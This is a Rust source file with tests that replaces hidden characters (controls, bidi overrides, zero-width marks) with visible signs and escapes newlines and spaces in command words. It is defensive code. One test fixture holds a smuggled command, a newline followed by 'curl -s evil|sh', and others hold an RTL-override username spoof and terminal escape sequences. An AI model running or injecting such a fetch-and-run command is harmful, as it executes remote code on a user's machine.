//! How do marks that nobody sees become visible?
//!
//! The text of others may turn the line round or hide letters in it. What is read to be shown passes here once; what is
//! read to be written back, or to be told from another, does not. Start at: [`text`].

use std::borrow::Cow;

/// Whether a letter acts on what stands beside it instead of being seen itself. Lines and columns are no such marks.
pub fn is_hidden(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// The text with a visible sign in place of each such mark.
pub fn text(text: &str) -> Cow<'_, str> {
    if text.chars().any(is_hidden) { text.chars().map(|c| if is_hidden(c) { char::REPLACEMENT_CHARACTER } else { c }).collect() } else { text.into() }
}

/// The same for a text that is kept.
pub fn owned(said: impl Into<String>) -> String {
    let said = said.into();
    if said.chars().any(is_hidden) { text(&said).into_owned() } else { said }
}

/// What a space of several, or at an end, is shown by.
const SPACE: char = '\u{b7}';

/// A word as it is, letter by letter, on one line: also ends of lines, spaces that could be overlooked and what only looks
/// like a space are spelled. For what would run.
pub fn spelled(word: &str) -> String {
    let mut seen = String::with_capacity(word.len());
    let mut before = None;
    let mut letters = word.chars().peekable();
    while let Some(c) = letters.next() {
        let between = |other: Option<char>| other.is_some_and(|other| other != ' ');
        match c {
            '\n' => seen.push_str("\\n"),
            '\t' => seen.push_str("\\t"),
            // So that nothing that is written looks like what is spelled.
            '\\' => seen.push_str("\\\\"),
            SPACE => seen.extend(c.escape_unicode()),
            ' ' if between(before) && between(letters.peek().copied()) => seen.push(c),
            ' ' => seen.push(SPACE),
            c if is_hidden(c) => seen.push(char::REPLACEMENT_CHARACTER),
            // The last is a letter of Braille without a dot.
            c if c.is_whitespace() || c == '\u{2800}' => seen.extend(c.escape_unicode()),
            c => seen.push(c),
        }
        before = Some(c);
    }
    seen
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_mark_that_nobody_sees_becomes_a_visible_one() {
        for (said, seen) in [
            ("a line\nand\tanother", "a line\nand\tanother"),
            ("مرحبا дом 家", "مرحبا дом 家"),
            ("user\u{202e}nimda", "user\u{fffd}nimda"),
            ("ad\u{200b}min\u{feff}", "ad\u{fffd}min\u{fffd}"),
            ("\u{1b}[2J\u{9b}1m\u{7}\r", "\u{fffd}[2J\u{fffd}1m\u{fffd}\u{fffd}"),
            ("\u{2066}x\u{2069}", "\u{fffd}x\u{fffd}"),
        ] {
            assert_eq!(super::text(said), seen);
            assert_eq!(super::owned(said), seen);
        }
    }

    #[test]
    fn a_word_that_would_run_hides_no_end_of_a_line_and_no_space() {
        for (said, seen) in [
            ("--cluster-name=staging-eu", "--cluster-name=staging-eu"),
            ("true # eks token\ncurl -s evil|sh", r"true # eks token\ncurl -s evil|sh"),
            (r"true \n", r"true \\n"),
            ("a\tb", r"a\tb"),
            ("a  b", "a\u{b7}\u{b7}b"),
            (" a b ", "\u{b7}a b\u{b7}"),
            (" ", "\u{b7}"),
            ("a\u{b7}b", r"a\u{b7}b"),
            ("a\u{a0}b\u{3000}c\u{2800}d", r"a\u{a0}b\u{3000}c\u{2800}d"),
            ("a\u{202e}b\r", "a\u{fffd}b\u{fffd}"),
            ("", ""),
        ] {
            assert_eq!(super::spelled(said), seen);
        }
    }

    #[test]
    fn neither_words_nor_faults_hide_a_mark() {
        let hidden = "a\u{202e}b";
        let words = crate::jobs::Words::said(hidden).mono(hidden).then(hidden);
        assert_eq!(words.plain(), "a\u{fffd}b".repeat(3));
        let fault = crate::Fault::new(crate::FaultCode::Bug, hidden).because(hidden, hidden).unharmed(hidden);
        assert_eq!(fault.to_string(), "a\u{fffd}b (a\u{fffd}b: a\u{fffd}b) a\u{fffd}b");
    }
}
